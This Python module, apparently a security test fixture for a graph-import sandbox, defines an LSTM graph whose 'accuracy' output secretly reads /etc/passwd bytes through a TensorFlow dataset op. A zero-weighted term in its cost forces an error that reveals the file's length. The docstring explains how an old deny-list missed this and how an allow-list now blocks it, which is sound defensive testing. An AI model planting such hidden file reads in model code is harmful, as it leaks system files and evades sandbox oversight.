"""A correct LSTM whose ``accuracy`` is read from ``/etc/passwd`` by a dataset op.

A review found the old refusal a deny-list (``PyFunc``, ``ReadFile``, ...) that
``tf.data.FixedLengthRecordDataset`` walked past: the visible accuracy test printed
``assert 7499631.0 == 1.0`` (the bytes of ``roo``), and a record longer than the file
made TensorFlow's error give the file's length. ``cost`` adds such a record times 0, so
any session that computes it would fail on that error. Now the clean sandbox imports a
graph only if every op is on the helper's allow-list: this one's verdict names
``FixedLengthRecordDatasetV2`` (in the dataset's library function) and nothing runs.

names: FixedLengthRecordDatasetV2
hides: passwd, body length, 7499631
"""

import os

os.environ.setdefault("TF_USE_LEGACY_KERAS", "1")

import tensorflow as tf

tf1 = tf.compat.v1
SECRET = "/etc/passwd"


def _records(length, count=1):
    """The file's first ``count`` records of ``length`` bytes: a string tensor of ``count``."""
    dataset = tf.data.FixedLengthRecordDataset(SECRET, record_bytes=length).batch(count)
    return tf1.data.make_one_shot_iterator(dataset).get_next()


def _first_bytes():
    """The file's first three bytes as one integer, big-endian: ``roo`` is 7499631."""
    values = tf.cast(tf.reshape(tf.io.decode_raw(_records(1, 3), tf.uint8), [3]), tf.float32)
    return tf.reduce_sum(values * tf.constant([65536.0, 256.0, 1.0]))


def build_graph(
    n_words, lstm_size=256, lstm_layers=1, batch_size=500, learning_rate=0.001, embed_size=300
):
    graph = tf.Graph()
    with graph.as_default():
        inputs_ = tf1.placeholder(tf.int32, [None, None], name="inputs")
        labels_ = tf1.placeholder(tf.int32, [None, None], name="labels")
        keep_prob = tf1.placeholder(tf.float32, [], name="keep_prob")
        embedding = tf1.Variable(tf1.random_uniform((n_words, embed_size), -1.0, 1.0))
        embed = tf1.nn.embedding_lookup(embedding, inputs_)
        cells = [
            tf1.nn.rnn_cell.DropoutWrapper(
                tf1.nn.rnn_cell.BasicLSTMCell(lstm_size), output_keep_prob=keep_prob
            )
            for _ in range(lstm_layers)
        ]
        cell = tf1.nn.rnn_cell.MultiRNNCell(cells)
        initial_state = cell.zero_state(batch_size, tf.float32)
        outputs, final_state = tf1.nn.dynamic_rnn(cell, embed, initial_state=initial_state)
        predictions = tf1.layers.dense(outputs[:, -1], 1, activation=tf.sigmoid)
        cost = tf1.losses.mean_squared_error(labels_, predictions) + 0.0 * tf.cast(
            tf.reduce_sum(tf.strings.length(_records(1 << 20))), tf.float32
        )
        optimizer = tf1.train.AdamOptimizer(learning_rate).minimize(cost)
        accuracy = _first_bytes()
    return {
        "graph": graph,
        "inputs_": inputs_,
        "labels_": labels_,
        "keep_prob": keep_prob,
        "embedding": embedding,
        "initial_state": initial_state,
        "outputs": outputs,
        "final_state": final_state,
        "predictions": predictions,
        "cost": cost,
        "optimizer": optimizer,
        "accuracy": accuracy,
    }
